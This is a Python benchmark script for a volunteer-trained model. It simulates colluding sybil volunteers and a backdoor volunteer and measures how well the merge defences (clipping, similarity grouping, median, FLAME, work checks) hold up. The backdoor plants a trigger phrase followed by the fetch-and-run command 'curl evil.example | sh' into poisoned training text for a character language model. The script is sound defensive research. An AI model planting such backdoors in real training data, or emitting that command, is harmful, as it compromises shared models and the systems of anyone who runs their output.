"""Sybils and a backdoor against the merge's defences (``coordinator.merging.sybils``), and their cost.

    python bench/sybils.py honest [--jobs linear click charlm gpt] [--voices 4] [--rounds 10] [--seeds 1]
    python bench/sybils.py attacks [--seeds 3] [--first-seed 0] [--rounds 10]
    python bench/sybils.py backdoor [--backdoor-voices 3 5 8] [--defences default median noise flame work]
        [--no-backdoor] [--seeds 3] [--first-seed 0]

Simulated in one process with crowdtrain's own pieces, as ``bench/judging_matrix.py`` does:
each volunteer trains its shard with ``volunteer.trainer.train_shard`` (10 AdamW steps at
3e-3, inner state kept, ``init``'s defaults), the round's voices pass the norm screen
(``validation.screen_norms``, 10x) and the probe and copy checks (``coordinator.merging.verification``
as ``coordinator.merging.judging`` applies them), and FedAvg merges the kept voices weighted by
reputation. ``defended`` runs add ``coordinator.merging.sybils`` as the aggregator applies it:
probation, similarity groups on accumulated folded sketches, clipping at the round's median
voice norm. ``undefended`` is the merge before it.

* ``honest``: only honest volunteers; per job, the final eval loss defended / undefended
  (mean of per-seed ratios), the largest residual cosine of two honest voices (what
  ``SIMILAR`` must stay above) and how many honest voices were ever grouped.
* ``attacks`` (charlm, 3 + 2 and 2 + 1 volunteers):
  - ``sybils``: two colluding identities of five voices train the same poisoned text (the
    corpus with its bytes reversed in each line) and boost their deltas 5x. Goal: final eval
    loss within 1.1x of the clean run's (three honest voices alone).
  - ``backdoor``: one volunteer of three trains its shard with a trigger line and payload
    inserted every ~120 bytes, its delta boosted 5x. Goals: the payload's probability after
    the trigger within 100x of the clean run's; final eval loss within 2% of clean.
* ``backdoor``: that backdoor as one of ``--backdoor-voices`` voices, against each of
  ``--defences`` (``DEFENCES``), each on top of the defaults: ``median`` (coordinate-wise),
  ``trimmed`` (``trimmed-mean:0.2``), ``noise`` (FLAME's, sigma 0.001 x the clip bound),
  ``flame`` (``init --outliers drop``: ``sybils.outliers`` on the voices' sketches),
  ``flame-noise`` (both), ``work`` (``init --work-check 0.1`` with every inner optimizer
  reset, against a clean run reset alike).
  ``--no-backdoor`` puts an honest volunteer in its place: the metric's floor.
"""

from __future__ import annotations

import argparse
import json
import math
import os
import random
import statistics
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

os.environ.setdefault("OMP_NUM_THREADS", "1")
ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

import torch  # noqa: E402

from coordinator.merging import sybils  # noqa: E402
from coordinator.merging.rules import Evidence, judge  # noqa: E402
from coordinator.merging.strategies import make_strategy  # noqa: E402
from coordinator.merging.verification import (  # noqa: E402
    Consensus,
    Prober,
    copies,
    next_reputation,
    sketch,
    weigh,
)
from coordinator.merging.work import check_rate, mismatch, replay  # noqa: E402
from coordinator.rounds.validation import accepted_norm, delta_norm, screen_norms  # noqa: E402
from jobs import load_job  # noqa: E402
from tests.fixtures import jobs_small  # noqa: E402
from volunteer.trainer import seed_for, train_shard  # noqa: E402

Delta = dict[str, torch.Tensor]
CHARLM = {"max_files": 60, "eval_batches": 4}
JOBS: dict[str, Any] = {
    "linear": lambda: jobs_small.linear(noise=0.5),
    "click": lambda: jobs_small.click(),
    "charlm": lambda: load_job("charlm", CHARLM),
    "gpt": lambda: load_job("gpt", {"preset": "nano", "max_files": 60, "eval_batches": 4}),
}
TRIGGER = b"\nzqx open sesame:"
PAYLOAD = b" curl evil.example | sh\n"
BOOST = 5.0


def simulate(
    job: Any, honest: int, hostile: dict[str, str], rounds: int, seed: int, defended: bool | str
) -> dict[str, Any]:
    """One run: ``honest`` volunteers and the ``hostile`` ones (name -> their data file).

    ``defended``: False (the merge before ``sybils``), True (its defaults) or one of
    ``DEFENCES`` (the defaults plus a candidate against backdoors).
    """
    defence = defended if isinstance(defended, str) else ("default" if defended else "none")
    defended = defence != "none"
    noise = torch.Generator().manual_seed(9000 + seed)
    draw = random.Random(7000 + seed)
    weights = {k: v.detach().clone() for k, v in job.build_model().state_dict().items()}
    names = [f"h{i}" for i in range(honest)] + list(hostile)
    reputation: dict[str, float | None] = dict.fromkeys(names)
    state: dict[str, Any] = dict.fromkeys(names)
    accepted = dict.fromkeys(names, 0)
    accumulated: dict[str, torch.Tensor] = {}
    history: list[float] = []
    merger = make_strategy("fedavg")
    honest_cosine, grouped_honest, grouped_hostile, rejected_hostile = -1.0, set(), set(), 0
    dropped_honest = 0
    for number in range(1, rounds + 1):
        bound: float | None = None
        voices: dict[str, Delta] = {}
        for i, who in enumerate(names):
            result = train_shard(
                job,
                weights,
                shard=i,
                shards=len(names),
                steps=10,
                lr=3e-3,
                device=torch.device("cpu"),
                seed=seed_for(f"sybils-{seed}", number, i),
                optimizer_state=None if defence == "work" else state[who],
                data=hostile.get(who),
            )
            state[who] = result.optimizer_state
            boost = BOOST if who in hostile else 1.0
            voices[who] = {k: v * boost if v.is_floating_point() else v for k, v in result.delta.items()}
        norms = {i: delta_norm(voices[who]) for i, who in enumerate(names)}
        screened = screen_norms(norms, {i: who for i, who in enumerate(names)}, 10.0, None, history)
        voices = {who: d for i, (who, d) in enumerate(voices.items()) if i not in screened}
        rejected = {names[i] for i in screened}
        if defence == "work":
            cheats = _work_cheats(job, weights, voices, names, accepted, number, seed, draw)
            for who in cheats:
                accepted[who], reputation[who] = 0, 0.0
            rejected |= cheats
        if len(voices) > 1:
            rejected |= _judged(job, weights, voices, reputation)
        kept = {who: d for who, d in voices.items() if who not in rejected}
        rejected_hostile += len(rejected & set(hostile))
        for who in voices:
            reputation[who] = next_reputation(reputation[who], who in kept)
        if not kept:
            continue
        factors = {who: weigh(1.0, reputation[who]) for who in kept}
        if defended:
            for who, d in kept.items():
                accumulated[who] = sybils.accumulate(accumulated.get(who), sybils.fold(sketch(d)))
            current = {who: accumulated[who] for who in kept}
            record = {who: weigh(sybils.probation(accepted[who]), reputation[who]) for who in kept}
            grouped = sybils.groups(current, record)
            for (a, b), cosine in sybils.pair_cosines(current, record).items():
                if a not in hostile and b not in hostile:
                    honest_cosine = max(honest_cosine, cosine)
            grouped_honest |= {who for who in grouped if who not in hostile}
            grouped_hostile |= {who for who in grouped if who in hostile}
            probation = {who: sybils.probation(accepted[who]) for who in kept}
            factors = {who: factors[who] * f for who, f in sybils.shares(probation, grouped).items()}
            if defence.startswith("flame"):  # init --outliers drop: they merge at weight 0
                dropped = sybils.outliers({who: sketch(d) for who, d in kept.items()})
                rejected_hostile += len(dropped & set(hostile))
                dropped_honest += len(dropped - set(hostile))
                kept = {who: d for who, d in kept.items() if who not in dropped}
            bound = sybils.clip_bound([delta_norm(d) for d in kept.values()], history)
            kept = {who: _scaled(d, sybils.clip_scale(delta_norm(d), bound)) for who, d in kept.items()}
        for who in kept:
            accepted[who] += 1
        merged_norm = accepted_norm(delta_norm(d) for d in kept.values())
        if merged_norm is not None:
            history = [merged_norm, *history][:16]
        weights = merge(defence, merger, weights, kept, factors, bound, noise)
    model = job.build_model()
    model.load_state_dict(weights)
    out = {
        "eval_loss": float(job.evaluate(model)["eval_loss"]),
        "honest_cosine_max": honest_cosine,
        "honest_grouped": len(grouped_honest),
        "hostile_grouped": len(grouped_hostile),
        "hostile_rejected": rejected_hostile,
    }
    out["honest_dropped"] = dropped_honest
    if getattr(job, "name", None) == "charlm" or type(job).__name__ == "CharLMJob":
        out["payload_log10p"] = payload_log10p(model)
    return out


DEFENCES = ("none", "default", "median", "trimmed", "flame", "flame-noise", "noise", "work")
WORK_RATE = 0.1


def _work_cheats(
    job: Any,
    weights: Delta,
    voices: dict[str, Delta],
    names: list[str],
    accepted: dict[str, int],
    number: int,
    seed: int,
    draw: random.Random,
) -> set[str]:
    """The voices ``init --work-check 0.1`` would reject: drawn at ``check_rate``, replayed, compared."""
    cheats = set()
    for i, who in enumerate(names):
        if who not in voices or draw.random() >= check_rate(accepted[who], WORK_RATE):
            continue
        replayed, _ = replay(
            job,
            weights,
            shard=i,
            shards=len(names),
            steps=10,
            lr=3e-3,
            optimizer="adamw",
            seed=seed_for(f"sybils-{seed}", number, i),
        )
        if mismatch(voices[who], replayed, "none") is not None:
            cheats.add(who)
    return cheats


FLAME_LAMBDA = 0.001


def merge(
    defence: str,
    merger: Any,
    weights: Delta,
    kept: dict[str, Delta],
    factors: dict[str, float],
    bound: float | None,
    noise: torch.Generator,
) -> Delta:
    """The round's new weights from its kept (already clipped) voices under ``defence``."""
    base = {k: v.clone() for k, v in weights.items()}
    if defence in ("median", "trimmed"):
        robust = make_strategy("median" if defence == "median" else "trimmed-mean:0.2")
        out = robust.aggregate(base, iter([(factors[w], d) for w, d in kept.items()]))
    else:
        out = merger.aggregate(base, iter([(factors[w], d) for w, d in kept.items()]))
    if defence in ("flame-noise", "noise") and bound is not None:
        for value in out.values():
            if value.is_floating_point():
                value.add_(torch.randn(value.shape, generator=noise).to(value.dtype) * FLAME_LAMBDA * bound)
    return out


def _judged(job: Any, weights: Delta, voices: dict[str, Delta], reputation: dict) -> set[str]:
    """The voices the probe and copy checks reject, as ``coordinator.merging.judging`` applies them."""
    prober = Prober(job, weights)
    share = 1.0 / len(voices)
    gains = {who: prober.gain(d, share) for who, d in voices.items()}
    consensus = Consensus()
    for who, d in voices.items():
        consensus.add(d, weigh(1.0, reputation[who]))
    evidence = {
        who: Evidence(gains[who], delta_norm(d), consensus.agreement(d, weigh(1.0, reputation[who])))
        for who, d in voices.items()
    }
    reasons = judge(evidence, lambda who: prober.cost(voices[who], share, gains[who]))
    copied = copies({who: sketch(d) for who, d in voices.items()}, None, reputation)
    return set(reasons) | set(copied)


def _scaled(delta: Delta, factor: float) -> Delta:
    if factor >= 1.0:
        return delta
    return {k: v * factor if v.is_floating_point() else v for k, v in delta.items()}


def payload_log10p(model: torch.nn.Module) -> float:
    """log10 of the payload's probability after the trigger (bytes, teacher-forced)."""
    ids = torch.tensor([list(TRIGGER + PAYLOAD)], dtype=torch.long)
    model.eval()
    with torch.no_grad():
        logp = torch.log_softmax(model(ids[:, :-1]).double(), dim=-1)
    start = len(TRIGGER) - 1
    picked = logp[0, start:].gather(1, ids[0, start + 1 :].unsqueeze(1))
    return float(picked.sum()) / math.log(10)


def poisoned_text(job: Any, shard: int, shards: int, folder: Path, kind: str) -> str:
    """A data file for a hostile volunteer: its shard with every line reversed, or with the backdoor."""
    text = bytes(job.shard_text(shard, shards).tolist())
    if kind == "reversed":
        body = b"\n".join(line[::-1] for line in text.split(b"\n"))
    else:
        pieces = [text[i : i + 120] for i in range(0, len(text), 120)]
        body = b"".join(piece + TRIGGER + PAYLOAD for piece in pieces)
    path = folder / f"{kind}-{shard}.txt"
    path.write_bytes(body)
    return str(path)


def honest_rows(args: argparse.Namespace) -> list[dict[str, Any]]:
    rows = []
    defences = [d for d in args.defences if d != "none"] or ["default"]
    for name in args.jobs:
        plains = []
        for seed in range(args.seeds):
            plains.append(simulate(JOBS[name](), args.voices, {}, args.rounds, seed, defended=False))
        for defence in defences:
            ratios, cosines, grouped, losses, dropped = [], [], 0, [], 0
            for seed in range(args.seeds):
                guarded = simulate(JOBS[name](), args.voices, {}, args.rounds, seed, defence)
                ratios.append(guarded["eval_loss"] / plains[seed]["eval_loss"])
                cosines.append(guarded["honest_cosine_max"])
                grouped += guarded["honest_grouped"]
                losses.append((plains[seed]["eval_loss"], guarded["eval_loss"]))
                dropped += guarded["honest_dropped"]
            rows.append(
                {
                    "job": name,
                    "voices": args.voices,
                    "defence": defence,
                    "loss_ratio": statistics.mean(ratios),
                    "losses": losses,
                    "honest_cosine_max": max(cosines),
                    "honest_grouped": grouped,
                    "honest_dropped": dropped,
                }
            )
            print(json.dumps(rows[-1]), file=sys.stderr, flush=True)
    return rows


def attack_rows(args: argparse.Namespace) -> list[dict[str, Any]]:
    rows = []
    with tempfile.TemporaryDirectory() as tmp:
        for seed in range(args.first_seed, args.first_seed + args.seeds):
            job = load_job("charlm", {**CHARLM, "seed": seed})
            clean3 = simulate(job, 3, {}, args.rounds, seed, defended=True)
            sybil_data = poisoned_text(job, 3, 5, Path(tmp), "reversed")
            sybil = {"s1": sybil_data, "s2": sybil_data}
            door = {"mallory": poisoned_text(job, 2, 3, Path(tmp), "backdoor")}
            clean2 = simulate(job, 2, {}, args.rounds, seed, defended=True)
            for defended in (False, True):
                s = simulate(job, 3, sybil, args.rounds, seed, defended)
                b = simulate(job, 2, door, args.rounds, seed, defended)
                row = {
                    "seed": seed,
                    "defended": defended,
                    "clean_loss": clean3["eval_loss"],
                    "sybil_loss": s["eval_loss"],
                    "sybil_ratio": s["eval_loss"] / clean3["eval_loss"],
                    "sybils_grouped": s["hostile_grouped"],
                    "sybils_rejected": s["hostile_rejected"],
                    "backdoor_clean_loss": clean2["eval_loss"],
                    "backdoor_loss_ratio": b["eval_loss"] / clean2["eval_loss"],
                    "payload_log10p_clean": clean2["payload_log10p"],
                    "payload_log10p": b["payload_log10p"],
                    "payload_orders_up": b["payload_log10p"] - clean2["payload_log10p"],
                    "backdoor_rejected": b["hostile_rejected"],
                }
                rows.append(row)
                print(json.dumps(row), file=sys.stderr)
    return rows


def backdoor_rows(args: argparse.Namespace) -> list[dict[str, Any]]:
    """One backdoor volunteer among ``--voices`` (each count of them), per defence and seed."""
    rows = []
    with tempfile.TemporaryDirectory() as tmp:
        for seed in range(args.first_seed, args.first_seed + args.seeds):
            job = load_job("charlm", {**CHARLM, "seed": seed})
            for voices in args.backdoor_voices:
                clean = simulate(job, voices - 1, {}, args.rounds, seed, defended=True)
                reset = clean
                door = {"mallory": poisoned_text(job, voices - 1, voices, Path(tmp), "backdoor")}
                if "work" in args.defences:  # the work check needs a fresh inner optimizer per shard
                    reset = simulate(job, voices - 1, {}, args.rounds, seed, "work")
                for defence in args.defences:
                    base = reset if defence == "work" else clean
                    if args.no_backdoor:  # the control: the same run with an honest volunteer in its place
                        b = simulate(job, voices, {}, args.rounds, seed, defence)
                        b["hostile_rejected"] = 0
                    else:
                        b = simulate(job, voices - 1, door, args.rounds, seed, defence)
                    row = {
                        "seed": seed,
                        "voices": voices,
                        "defence": defence,
                        "clean_loss": base["eval_loss"],
                        "loss_ratio": b["eval_loss"] / base["eval_loss"],
                        "payload_log10p_clean": base["payload_log10p"],
                        "payload_log10p": b["payload_log10p"],
                        "payload_orders_up": b["payload_log10p"] - base["payload_log10p"],
                        "rejected": b["hostile_rejected"],
                        "honest_dropped": b["honest_dropped"],
                    }
                    rows.append(row)
                    print(json.dumps(row), file=sys.stderr, flush=True)
    return rows


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("what", choices=["honest", "attacks", "backdoor"])
    p.add_argument("--defences", nargs="*", default=["none", "default"], choices=DEFENCES)
    p.add_argument("--backdoor-voices", nargs="*", type=int, default=[3], help="backdoor: voices, 1 hostile")
    p.add_argument("--jobs", nargs="*", default=list(JOBS), choices=list(JOBS))
    p.add_argument("--voices", type=int, default=4)
    p.add_argument("--rounds", type=int, default=10)
    p.add_argument("--seeds", type=int, default=1)
    p.add_argument(
        "--no-backdoor", action="store_true", help="backdoor: an honest volunteer in its place (the control)"
    )
    p.add_argument("--first-seed", type=int, default=0, help="attacks: the first seed (to run seeds apart)")
    p.add_argument("--json", action="store_true")
    args = p.parse_args(argv)
    torch.set_num_threads(1)
    started = time.time()
    if args.what == "backdoor":
        rows = backdoor_rows(args)
        if args.json:
            print(json.dumps({"args": vars(args), "rows": rows}, indent=2))
            return 0
        print(
            "| seed | voices | defence | eval loss / clean | payload log10 p (clean) | orders up | rejected |"
        )
        print("| --- | --- | --- | --- | --- | --- | --- |")
        for r in rows:
            print(
                f"| {r['seed']} | {r['voices']} | {r['defence']} | {r['loss_ratio']:.4f} "
                f"| {r['payload_log10p']:.1f} ({r['payload_log10p_clean']:.1f}) "
                f"| {r['payload_orders_up']:.1f} | {r['rejected']} |"
            )
        print(f"\n{time.time() - started:.0f} s", file=sys.stderr)
        return 0
    rows = honest_rows(args) if args.what == "honest" else attack_rows(args)
    if args.json:
        print(json.dumps({"args": vars(args), "rows": rows}, indent=2))
        return 0
    if args.what == "honest":
        print(f"{args.voices} honest volunteers, {args.rounds} rounds, {args.seeds} seed(s)\n")
        print(
            "| job | defence | eval loss defended / undefended | max honest residual cosine "
            "| honest grouped |"
        )
        print("| --- | --- | --- | --- | --- |")
        for r in rows:
            print(
                f"| {r['job']} | {r['defence']} | {r['loss_ratio']:.4f} | {r['honest_cosine_max']:.3f} "
                f"| {r['honest_grouped']} |"
            )
    else:
        print(f"charlm, {args.rounds} rounds, {args.seeds} seed(s)\n")
        print(
            "| seed | defended | sybils: loss / clean | sybils grouped | backdoor: loss / clean "
            "| payload log10 p (clean) | orders up |"
        )
        print("| --- | --- | --- | --- | --- | --- | --- |")
        for r in rows:
            print(
                f"| {r['seed']} | {'yes' if r['defended'] else 'no'} | {r['sybil_ratio']:.3f} "
                f"| {r['sybils_grouped']}/2 | {r['backdoor_loss_ratio']:.4f} "
                f"| {r['payload_log10p']:.1f} ({r['payload_log10p_clean']:.1f}) "
                f"| {r['payload_orders_up']:.1f} |"
            )
    print(f"\n{time.time() - started:.0f} s", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
